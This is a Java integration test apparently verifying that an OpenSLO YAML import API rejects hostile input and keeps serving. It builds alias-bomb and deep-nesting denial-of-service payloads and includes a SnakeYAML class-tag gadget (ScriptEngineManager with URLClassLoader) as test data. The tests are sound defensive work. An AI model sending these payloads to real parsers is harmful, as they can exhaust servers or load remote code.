package dev.daff.slo.openslo;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.not;

import java.util.List;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import dev.daff.localinfra.TestTokens;
import io.quarkus.test.junit.QuarkusTest;

/**
 * YAML written to hurt: an alias bomb, deep nesting, a huge document, class tags. Each is refused with problem+json
 * before it costs more than the refusal, nothing is stored, and the service answers the next caller at once.
 */
@QuarkusTest
class HostileYamlTest {

    @BeforeAll
    static void authenticate() {
        TestTokens.authenticateEveryRequest();
        OpenSloTest.sendYamlAsText();
    }

    /** The billion laughs: nine levels of ten aliases each, 10^9 strings once expanded. */
    static String aliasBomb() {
        StringBuilder yaml = new StringBuilder("a0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (int level = 1; level <= 9; level++) {
            String previous = "*a" + (level - 1);
            yaml.append("a").append(level).append(": &a").append(level).append(" [")
                    .append(String.join(",", java.util.Collections.nCopies(10, previous))).append("]\n");
        }
        return yaml.toString();
    }

    /**
     * Aliases to scalars are free in SnakeYAML's alias count: a 1,000-character scalar named a hundred times in one
     * list, that list doubled 24 times with 48 counted aliases, is a few KB of YAML and 10^12 characters once walked.
     */
    static String scalarAliasBomb() {
        StringBuilder yaml = new StringBuilder("kind: SLO\nmetadata:\n  name: bomb\n"
                + "  annotations:\n    s: &s \"" + "x".repeat(1_000) + "\"\n    x0: &x0 ["
                + String.join(",", java.util.Collections.nCopies(100, "*s")) + "]\n");
        for (int level = 1; level <= 24; level++) {
            yaml.append("    x").append(level).append(": &x").append(level).append(" [*x").append(level - 1)
                    .append(", *x").append(level - 1).append("]\n");
        }
        // a refusal quotes the apiVersion it was given
        return yaml.append("spec:\n  service: checkout\napiVersion: *x24\n").toString();
    }

    private static void refused(String yaml, int status, String type, String detail) {
        given().contentType("application/yaml").body(yaml).when().post("/api/openslo")
                .then().statusCode(status).contentType("application/problem+json")
                .body("type", equalTo("https://daff.dev/problems/" + type))
                .body("detail", containsString(detail))
                .body("detail", not(containsString("Exception"))).body("detail", not(containsString("org.yaml")));
        // still serving, and serving normally
        given().when().get("/api/slos").then().statusCode(200);
        given().contentType("application/yaml").body(OpenSloTest.slo("after-hostile")).when()
                .post("/api/openslo?dryRun=true").then().statusCode(200).body("slos[0].outcome", equalTo("created"));
    }

    @Test
    void anAliasBombIsRefusedBeforeItExpands() {
        refused(aliasBomb(), 400, "yaml-limits", "more than 50 aliases to collections");
    }

    @Test
    void anAliasBombOfScalarsIsRefusedBeforeAnythingWalksIt() {
        refused(scalarAliasBomb(), 400, "yaml-limits", "once its aliases are expanded");
        given().when().get("/api/slos/bomb").then().statusCode(404);
        // the same graph as a mapping key: building the map would hash all of it
        String asKey = scalarAliasBomb().replace("apiVersion: *x24\n", "? *x24\n: apiVersion\n");
        refused(asKey, 400, "yaml-limits", "a list or mapping used as a mapping key (written at line 30, column 10)");
        refused("a: &a [1, *a]\n", 400, "yaml-limits", "once its aliases are expanded");
    }

    /**
     * One long scalar named by 150,000 aliases in one list, within every limit but the expanded size: each alias is a
     * node already measured. Checked for lone surrogates at every alias, it was read 150,000 times, minutes of a
     * request thread (helper-83). The guard is not a timing goal: it only keeps a regression from hanging the suite.
     */
    @Test
    void aLongScalarNamedByManyAliasesIsReadOnce() {
        String yaml = "s: &s \"" + "x".repeat(500_000) + "\"\nl: [" + String.join(",", java.util.Collections.nCopies(150_000, "*s"))
                + "]\n";
        org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(java.time.Duration.ofSeconds(30),
                () -> refused(yaml, 400, "yaml-limits", "once its aliases are expanded"));
    }

    @Test
    void deepNestingIsRefused() {
        refused("[".repeat(10_000) + "]".repeat(10_000), 400, "yaml-limits", "nested deeper than 50 levels");
        refused("a:\n" + java.util.stream.IntStream.range(1, 200).mapToObj(i -> "  ".repeat(i) + "a:\n")
                .reduce("", String::concat), 400, "yaml-limits", "nested deeper than 50 levels");
    }

    @Test
    void aDocumentOverTheBodyLimitIsRefusedUnread() {
        String huge = "apiVersion: openslo/v1\nkind: SLO\nmetadata:\n  name: huge\n  annotations:\n"
                + "    x.dev/padding: \"" + "x".repeat(1_100_000) + "\"\n";
        given().contentType("application/yaml").body(huge).when().post("/api/openslo")
                .then().statusCode(413).contentType("application/problem+json");
        given().when().get("/api/slos/huge").then().statusCode(404);
        given().when().get("/api/slos").then().statusCode(200);
    }

    @Test
    void tooManyDocumentsAreRefused() {
        refused("a: 1\n---\n".repeat(1_001), 400, "yaml-limits", "more than 1000 documents");
    }

    @Test
    void classTagsMalformedYamlAndDuplicateKeysAreRefused() {
        refused("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n",
                400, "malformed-yaml", "Global tag is not allowed");
        refused("apiVersion: openslo/v1\nkind: [SLO\n", 400, "malformed-yaml", "line 3");
        refused("kind: SLO\nkind: SLI\n", 400, "malformed-yaml", "duplicate key kind");
        refused("", 400, "invalid-request", "no YAML document");
        for (String body : List.of("just text", "- a\n- b\n")) {
            given().contentType("application/yaml").body(body).when().post("/api/openslo").then().statusCode(422)
                    .contentType("application/problem+json")
                    .body("refusals[0].reason", containsString("must be a mapping"));
        }
    }
}
